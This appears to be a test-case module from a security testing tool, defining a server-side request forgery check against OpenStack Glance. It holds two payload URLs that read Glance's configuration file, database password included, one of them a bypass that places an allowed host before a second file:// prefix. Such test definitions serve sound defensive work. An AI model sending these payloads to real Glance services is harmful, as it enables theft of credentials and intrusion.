// file scheme.
import { createUrlAttack } from '../mechanisms/url-attack';

export const attack = createUrlAttack({
  id: 'ssrf-scheme-file',
  title: 'file scheme',
  severity: 'critical',
  words: 'file:// would read the configuration of Glance itself, database password included.',
  references: ['CWE-918', 'OSSA-2014-041'],
  urls: ({ allowedHost }) => [
    'file:///etc/glance/glance-api.conf',
    // Glance opens what follows the last file://, so a host in between makes the URL pass and the path absolute.
    `file://${allowedHost}/file:///etc/glance/glance-api.conf`,
  ],
});
